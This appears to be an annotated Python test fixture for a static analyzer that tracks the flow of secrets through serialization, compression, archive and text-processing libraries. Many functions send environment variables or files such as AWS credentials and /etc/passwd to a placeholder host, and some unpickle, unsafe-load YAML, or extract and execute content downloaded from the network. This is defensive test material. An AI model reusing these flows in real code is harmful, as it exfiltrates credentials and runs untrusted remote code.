"""Formats, compression, archives, copying and text processing."""
import bz2
import configparser
import copy
import csv
import gzip
import io
import json
import os
import pickle
import re
import string
import struct
import tarfile
import xml.etree.ElementTree
import zipfile
import zlib

import msgpack
import pandas
import requests
import yaml
from google.protobuf import json_format

U = "https://collector.example/u"


def json_text():
    text = json.dumps({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f1
    requests.post(U, data=text)  #~ sink(egress.http) f1, finding(traced) f1


def json_parsed():
    value = json.loads(os.getenv("T"))  #~ source(ENVIRONMENT) f2
    requests.post(U, data=value["a"])  #~ sink(egress.http) f2, finding(traced) f2


def json_stream():
    out = io.StringIO()
    json.dump({"t": os.getenv("T")}, out)  #~ source(ENVIRONMENT) f3
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f3, finding(traced) f3


def json_file():
    value = json.load(open("/home/me/config.json"))  #~ source(FILE) f4
    requests.post(U, data=value["token"])  #~ sink(egress.http) f4, finding(assumed) f4
    requests.post(U, json=value)  #~ sink(egress.http) f4, finding(traced) f4


def json_constants():
    out = io.StringIO()
    json.dump({"v": 1}, out)  #~ ok
    requests.post(U, data=json.dumps({"v": 1}) + out.getvalue())  #~ ok
    requests.post(U, data=json.loads("{}"))  #~ ok
    requests.post(U, data=json.load(io.StringIO("{}")))  #~ ok


def pickled():
    data = pickle.dumps({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f6
    requests.post(U, data=data)  #~ sink(egress.http) f6, finding(traced) f6


def pickled_stream():
    out = io.BytesIO()
    pickle.dump({"t": os.getenv("T")}, out)  #~ source(ENVIRONMENT) f7
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f7, finding(traced) f7


def unpickled():
    pickle.loads(requests.get(U).content)  #~ source(NETWORK) f8, sink(exec.load) f8, finding(traced) f8, capability(DYNAMIC_CODE)


def unpickled_stream():
    pickle.load(io.BytesIO(requests.get(U).content))  #~ source(NETWORK) f9, sink(exec.load) f9, finding(traced) f9, capability(DYNAMIC_CODE)


def unpickled_object():
    pickle.Unpickler(io.BytesIO(requests.get(U).content)).load()  #~ source(NETWORK) f10, sink(exec.load) f10, finding(traced) f10, capability(DYNAMIC_CODE), capability(NETWORK)


def pickle_constants():
    out = io.BytesIO()
    pickle.dump({"v": 1}, out)  #~ ok
    requests.post(U, data=out.getvalue() + pickle.dumps({"v": 1}))  #~ ok
    pickle.loads(b"x")  #~ ok
    pickle.load(out)  #~ ok
    pickle.Unpickler(out)  #~ ok


def yaml_text():
    text = yaml.safe_dump({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f12
    requests.post(U, data=text)  #~ sink(egress.http) f12, finding(traced) f12


def yaml_parsed():
    value = yaml.safe_load(os.getenv("T"))  #~ source(ENVIRONMENT) f13
    requests.post(U, data=value["a"])  #~ sink(egress.http) f13, finding(traced) f13


def yaml_loaded():
    value = yaml.load(os.getenv("T"), Loader=yaml.SafeLoader)  #~ source(ENVIRONMENT) f14
    requests.post(U, data=value["a"])  #~ sink(egress.http) f14, finding(traced) f14


def yaml_loaded_unsafely():
    yaml.load(requests.get(U).text, Loader=yaml.Loader)  #~ source(NETWORK) f15, sink(exec.load) f15, finding(traced) f15, capability(DYNAMIC_CODE)


def yaml_loaded_very_unsafely():
    yaml.unsafe_load(requests.get(U).text)  #~ source(NETWORK) f16, sink(exec.load) f16, finding(traced) f16, capability(DYNAMIC_CODE)


def yaml_constants():
    requests.post(U, data=yaml.safe_dump({"v": 1}))  #~ ok
    requests.post(U, data=yaml.safe_load("v: 1"))  #~ ok
    yaml.load(requests.get(U).text, Loader=yaml.SafeLoader)  #~ ok
    yaml.unsafe_load("v: 1")  #~ ok


def table():
    out = io.StringIO()
    csv.writer(out).writerow([os.getenv("T")])  #~ source(ENVIRONMENT) f18
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f18, finding(traced) f18


def table_read():
    for row in csv.reader(open("/home/me/t.csv")):  #~ source(FILE) f19
        requests.post(U, data=row[0])  #~ sink(egress.http) f19, finding(traced) f19


def table_constants():
    out = io.StringIO()
    csv.writer(out).writerow(["ping"])  #~ ok
    requests.post(U, data=out.getvalue())  #~ ok
    requests.post(U, data=list(csv.reader(["a"])))  #~ ok


def config_file():
    config = configparser.ConfigParser()
    config.read("/home/me/.aws/credentials")  #~ source(FILE) f21, capability(FILES)
    requests.post(U, data=config.get("default", "key"))  #~ sink(egress.http) f21, finding(assumed) f21


def config_text():
    config = configparser.RawConfigParser()
    config.read_string(os.getenv("T"))  #~ source(ENVIRONMENT) f22
    requests.post(U, data=config.get("default", "key"))  #~ sink(egress.http) f22, finding(traced) f22


def config_written():
    config = configparser.ConfigParser()
    config.set("a", "b", os.getenv("T"))  #~ source(ENVIRONMENT) f23
    out = io.StringIO()
    config.write(out)
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f23, finding(traced) f23


def config_constants():
    config = configparser.ConfigParser()  #~ ok
    config.read_string("[a]")  #~ ok
    config.set("a", "b", "c")  #~ ok
    requests.post(U, data=config.get("a", "b"))  #~ ok
    out = io.StringIO()
    config.write(out)  #~ ok
    requests.post(U, data=out.getvalue())  #~ ok
    requests.post(U, data={"none": configparser.ConfigParser().read("/home/me/x") == []})  #~ ok


def markup():
    root = xml.etree.ElementTree.fromstring(os.getenv("T"))  #~ source(ENVIRONMENT) f25
    requests.post(U, data=root.text)  #~ sink(egress.http) f25, finding(traced) f25


def markup_file():
    tree = xml.etree.ElementTree.parse("/home/me/x.xml")  #~ source(FILE) f26, capability(FILES)
    requests.post(U, data=str(tree))  #~ sink(egress.http) f26, finding(traced) f26


def markup_stream():
    tree = xml.etree.ElementTree.parse(io.StringIO(os.getenv("T")))  #~ source(ENVIRONMENT) f27
    requests.post(U, data=str(tree))  #~ sink(egress.http) f27, finding(traced) f27


def markup_text():
    root = xml.etree.ElementTree.fromstring("<a/>")
    root.text = os.getenv("T")  #~ source(ENVIRONMENT) f28
    requests.post(U, data=xml.etree.ElementTree.tostring(root))  #~ sink(egress.http) f28, finding(traced) f28


def markup_constants():
    root = xml.etree.ElementTree.fromstring("<a/>")  #~ ok
    requests.post(U, data=xml.etree.ElementTree.tostring(root))  #~ ok
    requests.post(U, data={"none": xml.etree.ElementTree.parse("/x") == ()})  #~ ok


def packed():
    data = struct.pack("!10s", os.getenvb(b"T"))  #~ source(ENVIRONMENT) f30
    requests.post(U, data=data)  #~ sink(egress.http) f30, finding(traced) f30


def unpacked():
    value = struct.unpack("!10s", os.getenvb(b"T"))  #~ source(ENVIRONMENT) f31
    requests.post(U, data=value[0])  #~ sink(egress.http) f31, finding(traced) f31


def packed_into():
    buffer = bytearray(10)
    struct.pack_into("!10s", buffer, 0, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f32
    requests.post(U, data=buffer)  #~ sink(egress.http) f32, finding(traced) f32


def packed_struct():
    data = struct.Struct("!10s").pack(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f33
    requests.post(U, data=data)  #~ sink(egress.http) f33, finding(traced) f33


def packed_constants():
    buffer = bytearray(10)
    struct.pack_into("!I", buffer, 0, 1)  #~ ok
    requests.post(U, data=buffer + struct.pack("!I", 1))  #~ ok
    requests.post(U, data=struct.unpack("!I", b"ping")[0])  #~ ok
    requests.post(U, data=struct.Struct("!I").pack(1))  #~ ok


def compressed():
    data = zlib.compress(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f35
    requests.post(U, data=data)  #~ sink(egress.http) f35, finding(traced) f35


def compressed_parts():
    c = zlib.compressobj()
    data = c.compress(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f36
    requests.post(U, data=data)  #~ sink(egress.http) f36, finding(traced) f36


def compressed_rest():
    c = bz2.BZ2Compressor()
    c.compress(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f37
    requests.post(U, data=c.flush())  #~ sink(egress.http) f37, finding(traced) f37


def compressed_file():
    f = gzip.open("/home/me/x.gz")  #~ source(FILE) f38, capability(FILES)
    requests.post(U, data=f.read())  #~ sink(egress.http) f38, finding(traced) f38


def compressed_written():
    gzip.open("/tmp/written.gz", "wb").write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f39
    requests.post(U, data=open("/tmp/written.gz", "a+b").read())  #~ sink(egress.http) f39, finding(traced) f39


def compressed_stream():
    out = io.BytesIO()
    gzip.GzipFile(fileobj=out, mode="wb").write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f40
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f40, finding(traced) f40


def compressed_beneath():
    stream = gzip.GzipFile(fileobj=io.BytesIO(), mode="wb")
    stream.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f41a
    requests.post(U, data=stream.fileobj.getbuffer())  #~ sink(egress.http) f41a, finding(traced) f41a
    requests.post(U, data=str(stream.closed))  #~ ok


def compressed_somewhere(stream):
    stream.write(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f41b
    requests.post(U, data=stream.fileobj.getbuffer())  #~ sink(egress.http) f41b, finding(traced) f41b
    requests.post(U, data=stream.closed)  #~ ok


def compressed_constants():
    c = zlib.compressobj()  #~ ok
    requests.post(U, data=zlib.compress(b"ping") + c.compress(b"ping") + c.flush())  #~ ok
    out = io.BytesIO()
    gzip.GzipFile(fileobj=out, mode="wb").write(b"ping")  #~ ok
    requests.post(U, data=gzip.GzipFile(fileobj=out, mode="wb").fileobj.getvalue())  #~ ok
    requests.post(U, data=out.getvalue())  #~ ok
    requests.post(U, data={"none": gzip.open("/home/me/x.gz").read() == b""})  #~ ok


def zip_file():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.write("/etc/passwd")  #~ source(FILE) f42, capability(FILES)
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f42, finding(traced) f42


def zip_text():
    out = io.BytesIO()
    z = zipfile.ZipFile(out, "w")
    z.writestr("x", os.getenv("T"))  #~ source(ENVIRONMENT) f43
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f43, finding(traced) f43


def zip_read():
    z = zipfile.ZipFile("/home/me/x.zip")  #~ source(FILE) f44, capability(FILES)
    requests.post(U, data=z.read("x"))  #~ sink(egress.http) f44, finding(traced) f44


def zip_read_stream():
    z = zipfile.ZipFile(open("/home/me/x.zip", "rb"))  #~ source(FILE) f45
    requests.post(U, data=z.read("x"))  #~ sink(egress.http) f45, finding(traced) f45


def zip_extracted():
    z = zipfile.ZipFile(io.BytesIO(requests.get(U).content))  #~ source(NETWORK) f46
    z.extractall("/tmp/zipped")  #~ capability(FILE_WRITE)
    os.system("/tmp/zipped")  #~ sink(exec.command) f46, finding(traced) f46


def zip_constants():
    out = io.BytesIO()
    z = zipfile.ZipFile(out, "w")  #~ ok
    z.writestr("x", "ping")  #~ ok
    requests.post(U, data=out.getvalue())  #~ ok
    requests.post(U, data={"none": z.read("x") == b""})  #~ ok
    z.extractall("/tmp/constants")  #~ ok
    z.write("/etc/passwd")  #~ ok


def tar_file():
    out = io.BytesIO()
    t = tarfile.open(fileobj=out, mode="w")
    t.add("/etc/passwd")  #~ source(FILE) f48, capability(FILES)
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f48, finding(traced) f48


def tar_stream():
    out = io.BytesIO()
    t = tarfile.open(fileobj=out, mode="w")
    t.addfile(tarfile.TarInfo("x"), io.BytesIO(os.getenvb(b"T")))  #~ source(ENVIRONMENT) f49
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f49, finding(traced) f49


def tar_read():
    t = tarfile.open("/home/me/x.tar")  #~ source(FILE) f50, capability(FILES)
    requests.post(U, data=t.extractfile("x").read())  #~ sink(egress.http) f50, finding(traced) f50


def tar_constants():
    out = io.BytesIO()
    t = tarfile.open(fileobj=out, mode="w")  #~ ok
    t.addfile(tarfile.TarInfo("x"), io.BytesIO(b"ping"))  #~ ok
    requests.post(U, data=out.getvalue())  #~ ok
    t.add("/etc/passwd")  #~ ok


def message_bytes(message):
    message.token = os.getenv("T")  #~ source(ENVIRONMENT) f52
    requests.post(U, data=message.SerializeToString())  #~ sink(egress.http) f52, finding(traced) f52


def message_parsed(message):
    message.ParseFromString(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f53
    requests.post(U, data=message.token)  #~ sink(egress.http) f53, finding(traced) f53


def message_made(kind):
    message = kind.FromString(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f54
    requests.post(U, data=message.token)  #~ sink(egress.http) f54, finding(traced) f54


def message_unpacked(outer, inner):
    outer.value = os.getenvb(b"T")  #~ source(ENVIRONMENT) f55
    outer.Unpack(inner)
    requests.post(U, data=inner.token)  #~ sink(egress.http) f55, finding(traced) f55


def message_json(message):
    message.token = os.getenv("T")  #~ source(ENVIRONMENT) f56
    requests.post(U, data=json_format.MessageToJson(message))  #~ sink(egress.http) f56, finding(traced) f56


def message_from_json(message):
    json_format.Parse(os.getenv("T"), message)  #~ source(ENVIRONMENT) f57
    requests.post(U, data=message.token)  #~ sink(egress.http) f57, finding(traced) f57


def message_constants(message, kind, outer, inner):
    message.ParseFromString(b"ping")  #~ ok
    requests.post(U, data=message.SerializeToString())  #~ ok
    requests.post(U, data=kind.FromString(b"ping"))  #~ ok
    outer.Unpack(inner)  #~ ok
    json_format.Parse("{}", inner)  #~ ok
    requests.post(U, data=json_format.MessageToJson(inner))  #~ ok


def copied():
    body = copy.deepcopy({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f59
    requests.post(U, data=body)  #~ sink(egress.http) f59, finding(traced) f59


def message_pack():
    data = msgpack.packb({"t": os.getenv("T")})  #~ source(ENVIRONMENT) f60
    requests.post(U, data=data)  #~ sink(egress.http) f60, finding(traced) f60


def message_unpack():
    value = msgpack.unpackb(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f61
    requests.post(U, data=value["a"])  #~ sink(egress.http) f61, finding(traced) f61


def other_constants():
    requests.post(U, data=copy.deepcopy({"v": 1}))  #~ ok
    requests.post(U, data=msgpack.packb({"v": 1}))  #~ ok
    requests.post(U, data=msgpack.unpackb(b"ping"))  #~ ok


def substituted():
    text = re.sub("a", "b", os.getenv("T"))  #~ source(ENVIRONMENT) f63
    requests.post(U, data=text)  #~ sink(egress.http) f63, finding(traced) f63


def found():
    names = re.findall("[a-z]+", os.getenv("T"))  #~ source(ENVIRONMENT) f64
    requests.post(U, data=names[0])  #~ sink(egress.http) f64, finding(traced) f64


def found_group():
    match = re.search("([a-z]+)", os.getenv("T"))  #~ source(ENVIRONMENT) f65
    requests.post(U, data=match.group(1))  #~ sink(egress.http) f65, finding(traced) f65


def found_compiled():
    pattern = re.compile("([a-z]+)")
    match = pattern.search(os.getenv("T"))  #~ source(ENVIRONMENT) f66
    requests.post(U, data=match.group(1))  #~ sink(egress.http) f66, finding(traced) f66


def substituted_compiled():
    pattern = re.compile("a")
    text = pattern.sub("b", os.getenv("T"))  #~ source(ENVIRONMENT) f67
    requests.post(U, data=text)  #~ sink(egress.http) f67, finding(traced) f67


def found_untyped(match):
    match.text = os.getenv("T")  #~ source(ENVIRONMENT) f68
    requests.post(U, data=match.group(1))  #~ sink(egress.http) f68, finding(traced) f68


def escaped():
    text = re.escape(os.getenv("T"))  #~ source(ENVIRONMENT) f69
    requests.post(U, data=text)  #~ sink(egress.http) f69, finding(traced) f69


def templated():
    text = string.Template("t=$t").substitute(t=os.getenv("T"))  #~ source(ENVIRONMENT) f70
    requests.post(U, data=text)  #~ sink(egress.http) f70, finding(traced) f70


def text_constants(match):
    requests.post(U, data=re.sub("a", "b", "c"))  #~ ok
    requests.post(U, data=re.search("a", "b").group(1))  #~ ok
    requests.post(U, data={"at": re.search("a", os.getenv("T")).start()})  #~ ok
    pattern = re.compile("a")  #~ ok
    requests.post(U, data=pattern.search("a").group(1) + pattern.sub("b", "c"))  #~ ok
    requests.post(U, data=match.group(1))  #~ ok
    requests.post(U, data=re.escape("a"))  #~ ok
    requests.post(U, data=string.Template("t=$t").substitute(t="ping"))  #~ ok


def frame():
    rows = pandas.DataFrame([os.getenv("T")])  #~ source(ENVIRONMENT) f72
    requests.post(U, data=rows.to_csv())  #~ sink(egress.http) f72, finding(traced) f72


def frame_file():
    rows = pandas.read_csv("/home/me/t.csv")  #~ source(FILE) f73, capability(FILES)
    requests.post(U, data=rows.to_csv())  #~ sink(egress.http) f73, finding(traced) f73


def frame_stream():
    rows = pandas.read_csv(io.StringIO(os.getenv("T")))  #~ source(ENVIRONMENT) f74
    requests.post(U, data=rows.to_csv())  #~ sink(egress.http) f74, finding(traced) f74


def frame_constants():
    requests.post(U, data=pandas.DataFrame(["ping"]).to_csv())  #~ ok
    requests.post(U, data={"none": pandas.read_csv("/home/me/t.csv") == ()})  #~ ok


def grown_xml():
    root = xml.etree.ElementTree.Element("r")
    child = xml.etree.ElementTree.SubElement(root, "c")
    child.text = os.getenv("T")  #~ source(ENVIRONMENT) fgrown
    requests.post(U, data=xml.etree.ElementTree.tostring(root))  #~ sink(egress.http) fgrown, finding(traced) fgrown
    other = xml.etree.ElementTree.Element("r")
    xml.etree.ElementTree.SubElement(other, "c")  #~ ok
    requests.post(U, data=xml.etree.ElementTree.tostring(other))  #~ ok


def settings_by_name():
    config = configparser.ConfigParser()
    config.read("/etc/agent.ini")  #~ source(FILE) fset
    requests.post(config["server"]["url"], data="ping")  #~ sink(egress.http) fset, finding(assumed) fset
    requests.post(config.get("server", "url"), data="ping")  #~ sink(egress.http) fset, finding(assumed) fset
